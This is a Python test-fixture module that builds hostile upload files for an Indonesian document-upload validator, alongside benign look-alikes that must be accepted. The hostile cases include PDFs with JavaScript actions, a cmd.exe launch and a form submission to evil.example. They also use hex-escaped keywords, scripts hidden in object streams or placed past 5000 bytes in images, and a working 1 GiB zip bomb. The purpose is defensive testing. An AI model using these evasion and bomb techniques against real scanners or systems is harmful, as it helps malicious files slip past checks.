"""A corpus of hostile evidence files, built by code (no binary blobs), one function per case.

``KORPUS`` maps a case name to ``(class, file name, builder)``; every case must be refused
with an Indonesian reason and nothing stored. ``AMAN`` holds legitimate look-alikes that must
still be accepted (so the checks refuse the attack, not the format).
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject
from pypdf.generic import DictionaryObject
from pypdf.generic import NameObject
from pypdf.generic import NumberObject
from pypdf.generic import TextStringObject

from tests import berkas_contoh as contoh

# --- PDF ---------------------------------------------------------------------------------


def pdf_dari_objek(objek: list[bytes], *, versi: bytes = b"1.4") -> bytes:
    """A classic PDF (xref table) whose object ``n`` is ``objek[n-1]``; object 1 is the catalogue."""
    out = io.BytesIO()
    out.write(b"%PDF-" + versi + b"\n%\xe2\xe3\xcf\xd3\n")
    posisi = []
    for nomor, isi in enumerate(objek, start=1):
        posisi.append(out.tell())
        out.write(b"%d 0 obj\n" % nomor + isi + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objek) + 1))
    for p in posisi:
        out.write(b"%010d 00000 n \n" % p)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objek) + 1, xref))
    return out.getvalue()


def _pdf_halaman(katalog_tambahan: bytes = b"", halaman_tambahan: bytes = b"", lain: list[bytes] = ()) -> bytes:
    return pdf_dari_objek([
        b"<< /Type /Catalog /Pages 2 0 R " + katalog_tambahan + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + halaman_tambahan + b">>",
        *lain,
    ])


def pdf_openaction_js() -> bytes:
    return _pdf_halaman(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")


def pdf_names_javascript() -> bytes:
    return _pdf_halaman(b"/Names << /JavaScript 4 0 R >> ",
                        lain=[b"<< /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"])


def pdf_aa_js_di_halaman() -> bytes:
    return _pdf_halaman(halaman_tambahan=b"/AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >> ")


def pdf_launch() -> bytes:
    return _pdf_halaman(b"/OpenAction << /S /Launch /F (cmd.exe) >> ")


def pdf_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("muatan.exe", b"MZ" + b"\x00" * 64)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_richmedia() -> bytes:
    return _pdf_halaman(halaman_tambahan=b"/Annots [4 0 R] ",
                        lain=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"])


def pdf_xfa() -> bytes:
    return _pdf_halaman(b"/AcroForm << /Fields [] /XFA 4 0 R >> ",
                        lain=[b"<< /Length 5 >>\nstream\n<xdp>\nendstream"])


def pdf_submitform() -> bytes:
    return _pdf_halaman(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >> ")


def _escape(data: bytes, asli: bytes, samaran: bytes) -> bytes:
    assert asli in data
    return data.replace(asli, samaran)


def pdf_escape_javascript() -> bytes:
    return _escape(pdf_openaction_js(), b"/S /JavaScript", b"/S /#4A#61vaScript")


def pdf_escape_js() -> bytes:
    return _escape(_escape(pdf_openaction_js(), b"/S /JavaScript", b"/S /Jav#61Script"), b"/JS ", b"/#4A#53 ")


def pdf_escape_launch() -> bytes:
    return _escape(pdf_launch(), b"/Launch", b"/#4C#61#75nch")


def pdf_escape_embeddedfile() -> bytes:
    return _escape(pdf_embedded_file(), b"/EmbeddedFile", b"/Embedded#46ile")


def pdf_js_di_object_stream() -> bytes:
    """PDF 1.5 whose script action sits inside a compressed object stream: no byte search sees it."""
    aksi = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    objstm_isi = b"4 0 " + aksi
    objstm_z = zlib.compress(objstm_isi)
    objek = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        None,  # object 4 lives in the object stream 5
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(objstm_z)
        + objstm_z + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    posisi = {}
    for nomor, isi in enumerate(objek, start=1):
        if isi is None:
            continue
        posisi[nomor] = out.tell()
        out.write(b"%d 0 obj\n" % nomor + isi + b"\nendobj\n")
    xref_nomor = len(objek) + 1
    posisi[xref_nomor] = out.tell()
    baris = [struct.pack(">BIH", 0, 0, 65535)]
    for nomor in range(1, xref_nomor + 1):
        if nomor == 4:
            baris.append(struct.pack(">BIH", 2, 5, 0))
        else:
            baris.append(struct.pack(">BIH", 1, posisi[nomor], 0))
    xref_z = zlib.compress(b"".join(baris))
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
              b"stream\n" % (xref_nomor, xref_nomor + 1, len(xref_z)) + xref_z + b"\nendstream\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % posisi[xref_nomor])
    data = out.getvalue()
    assert b"JavaScript" not in data
    return data


def _sisip_sebelum_startxref(data: bytes, sisipan: bytes) -> bytes:
    i = data.rindex(b"startxref")
    return data[:i] + sisipan + data[i:]


def pdf_skrip_setelah_5000_byte() -> bytes:
    return _sisip_sebelum_startxref(contoh.pdf(), b"%" + b"A" * 6000 + b"\n%<script>alert(1)</script>\n")


def pdf_terenkripsi() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="rahasia", owner_password="pemilik", algorithm="AES-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_rusak() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\n%%EOF\n"


# --- images ------------------------------------------------------------------------------


def _derau_png(ukuran: int = 64) -> bytes:
    rng = random.Random(14)
    gambar = Image.frombytes("RGB", (ukuran, ukuran), rng.randbytes(ukuran * ukuran * 3))
    buf = io.BytesIO()
    gambar.save(buf, format="PNG")
    return buf.getvalue()


def _chunk(jenis: bytes, isi: bytes) -> bytes:
    return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))


def png_skrip_setelah_5000_byte() -> bytes:
    data = _derau_png()
    assert len(data) > 5000
    akhir = data.rindex(b"\x00\x00\x00\x00IEND")
    return data[:akhir] + _chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>") + data[akhir:]


def jpeg_svg_di_komentar() -> bytes:
    data = contoh.jpeg()
    komentar = b"A" * 6000 + b"<svg onload=alert(1)>"
    segmen = b"\xff\xfe" + struct.pack(">H", len(komentar) + 2) + komentar
    return data[:2] + segmen + data[2:]


def png_bom_piksel() -> bytes:
    """A valid small PNG whose header declares 100 000 × 100 000 pixels."""
    data = contoh.png()
    ihdr = data[8:33]
    isi = struct.pack(">II", 100_000, 100_000) + ihdr[16:21]
    return data[:8] + _chunk(b"IHDR", isi) + data[33:]


def png_crc_rusak() -> bytes:
    data = bytearray(_derau_png())
    i = data.index(b"IDAT") + 40
    data[i] ^= 0xFF
    return bytes(data)


# --- Office archives ---------------------------------------------------------------------


def _zip_mentah(anggota: list[tuple[str, bytes, int, int, int]], *, flag: int = 0) -> bytes:
    """A ZIP written by hand: ``(name, stored bytes, crc32, uncompressed size, method)`` each."""
    out = io.BytesIO()
    pusat = []
    for nama, isi, crc, ukuran, metode in anggota:
        posisi = out.tell()
        n = nama.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flag, metode, 0, 0x21, crc, len(isi), ukuran, len(n), 0)
                  + n + isi)
        pusat.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flag, metode, 0, 0x21, crc, len(isi),
                                 ukuran, len(n), 0, 0, 0, 0, 0, posisi) + n)
    awal = out.tell()
    for p in pusat:
        out.write(p)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(pusat), len(pusat), out.tell() - awal, awal, 0))
    return out.getvalue()


def _kerangka_xlsx() -> list[tuple[str, bytes, int, int, int]]:
    bagian = []
    for nama, isi in (("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")):
        bagian.append((nama, isi, zlib.crc32(isi), len(isi), 0))
    return bagian


@functools.lru_cache(maxsize=1)
def xlsx_bom_1gib() -> bytes:
    """About 1 MB that really inflates to 1 GiB of zeros (deflate's ~1030:1 ceiling)."""
    blok = bytes(16 * 1024 * 1024)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush the compressor starts afresh, so every 16 MiB block compresses to the
    # same bytes: compress one, repeat it 64 times, then close the stream.
    potong = c.compress(blok) + c.flush(zlib.Z_FULL_FLUSH)
    isi = potong * 64 + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(64):
        crc = zlib.crc32(blok, crc)
    return _zip_mentah([*_kerangka_xlsx(), ("xl/worksheets/sheet1.xml", isi, crc, 1024 ** 3, 8)])


def xlsx_deklarasi_palsu_1gib() -> bytes:
    """A tiny part whose directory declares 1 GiB (the declaration alone is refused)."""
    isi = zlib.compress(b"<worksheet/>")[2:-4]
    return _zip_mentah([*_kerangka_xlsx(), ("xl/worksheets/sheet1.xml", isi, 0, 1024 ** 3, 8)])


def xlsx_rasio_berlebih() -> bytes:
    """A real XLSX with one extra part of 20 MiB zeros (~20 KB compressed, ratio ~1000)."""
    buf = io.BytesIO(contoh.xlsx())
    with zipfile.ZipFile(buf, "a", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/nol.bin", bytes(20 * 1024 * 1024))
    return buf.getvalue()


def docx_total_berlebih() -> bytes:
    """Parts of honest ratio (random text) whose declared total exceeds the limit."""
    bagian = [("[Content_Types].xml", b"<Types/>", zlib.crc32(b"<Types/>"), 8, 0),
              ("word/document.xml", b"<w:document/>", zlib.crc32(b"<w:document/>"), 13, 0)]
    # Each part declares 150 MiB for 1 KB stored: the total is what is refused.
    isi = random.Random(1).randbytes(2 * 1024 * 1024)
    bagian += [(f"word/media/{i}.bin", isi, zlib.crc32(isi), 150 * 1024 * 1024, 0) for i in range(2)]
    return _zip_mentah(bagian)


def docx_entri_berlebih() -> bytes:
    buf = io.BytesIO(contoh.docx())
    with zipfile.ZipFile(buf, "a") as z:
        for i in range(2100):
            z.writestr(f"word/x/{i}.xml", b"")
    return buf.getvalue()


def xlsx_html_tersimpan() -> bytes:
    buf = io.BytesIO(contoh.xlsx())
    with zipfile.ZipFile(buf, "a", compression=zipfile.ZIP_STORED) as z:
        z.writestr("xl/halaman.html", b"<html><body><script>alert(1)</script></body></html>")
    return buf.getvalue()


def xlsx_terenkripsi() -> bytes:
    return _zip_mentah(_kerangka_xlsx(), flag=0x1)


def xlsx_makro() -> bytes:
    buf = io.BytesIO(contoh.xlsx())
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 64)
    return buf.getvalue()


#: case → (class, upload name, builder)
KORPUS = {
    "arsip-bom-1gib-nyata": ("arsip", "rekap.xlsx", xlsx_bom_1gib),
    "arsip-deklarasi-1gib": ("arsip", "rekap.xlsx", xlsx_deklarasi_palsu_1gib),
    "arsip-rasio-berlebih": ("arsip", "rekap.xlsx", xlsx_rasio_berlebih),
    "arsip-total-berlebih": ("arsip", "surat.docx", docx_total_berlebih),
    "arsip-entri-berlebih": ("arsip", "surat.docx", docx_entri_berlebih),
    "arsip-terenkripsi": ("arsip", "rekap.xlsx", xlsx_terenkripsi),
    "arsip-makro": ("arsip", "rekap.xlsx", xlsx_makro),
    "pdf-openaction-javascript": ("pdf", "sk.pdf", pdf_openaction_js),
    "pdf-names-javascript": ("pdf", "sk.pdf", pdf_names_javascript),
    "pdf-aa-javascript-halaman": ("pdf", "sk.pdf", pdf_aa_js_di_halaman),
    "pdf-launch": ("pdf", "sk.pdf", pdf_launch),
    "pdf-embeddedfile": ("pdf", "sk.pdf", pdf_embedded_file),
    "pdf-richmedia": ("pdf", "sk.pdf", pdf_richmedia),
    "pdf-xfa": ("pdf", "sk.pdf", pdf_xfa),
    "pdf-submitform": ("pdf", "sk.pdf", pdf_submitform),
    "pdf-escape-javascript": ("pdf", "sk.pdf", pdf_escape_javascript),
    "pdf-escape-js": ("pdf", "sk.pdf", pdf_escape_js),
    "pdf-escape-launch": ("pdf", "sk.pdf", pdf_escape_launch),
    "pdf-escape-embeddedfile": ("pdf", "sk.pdf", pdf_escape_embeddedfile),
    "pdf-javascript-di-object-stream": ("pdf", "sk.pdf", pdf_js_di_object_stream),
    "pdf-terenkripsi": ("pdf", "sk.pdf", pdf_terenkripsi),
    "pdf-rusak": ("pdf", "sk.pdf", pdf_rusak),
    "skrip-pdf-setelah-5000-byte": ("skrip", "sk.pdf", pdf_skrip_setelah_5000_byte),
    "skrip-png-setelah-5000-byte": ("skrip", "foto.png", png_skrip_setelah_5000_byte),
    "skrip-jpeg-svg-di-komentar": ("skrip", "foto.jpg", jpeg_svg_di_komentar),
    "skrip-xlsx-html-tersimpan": ("skrip", "rekap.xlsx", xlsx_html_tersimpan),
    "gambar-bom-piksel": ("gambar", "foto.png", png_bom_piksel),
    "gambar-crc-rusak": ("gambar", "foto.png", png_crc_rusak),
}


def pdf_tautan_dan_goto() -> bytes:
    """A harmless PDF with a link annotation (/URI) and an /OpenAction that only goes to page 1."""
    writer = PdfWriter()
    halaman = writer.add_blank_page(200, 200)
    tautan = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                            NameObject("/URI"): TextStringObject("https://paserkab.go.id/")}),
    })
    halaman[NameObject("/Annots")] = ArrayObject([writer._add_object(tautan)])
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([halaman.indirect_reference, NameObject("/Fit")])
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def xlsx_berulang() -> bytes:
    """A legitimate, very repetitive spreadsheet (XML ratio ~13)."""
    from openpyxl import Workbook

    wb = Workbook()
    for _ in range(5000):
        wb.active.append(["Rekap", 0, 0, 0, ""])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def png_derau() -> bytes:
    return _derau_png()


#: case → (upload name, builder): legitimate files that must be accepted.
AMAN = {
    "pdf-reportlab": ("sk.pdf", contoh.pdf),
    "pdf-tautan-dan-goto": ("sk.pdf", pdf_tautan_dan_goto),
    "png": ("foto.png", contoh.png),
    "png-derau": ("foto.png", png_derau),
    "jpeg": ("foto.jpg", contoh.jpeg),
    "xlsx": ("rekap.xlsx", contoh.xlsx),
    "xlsx-berulang": ("rekap.xlsx", xlsx_berulang),
    "docx": ("surat.docx", contoh.docx),
}
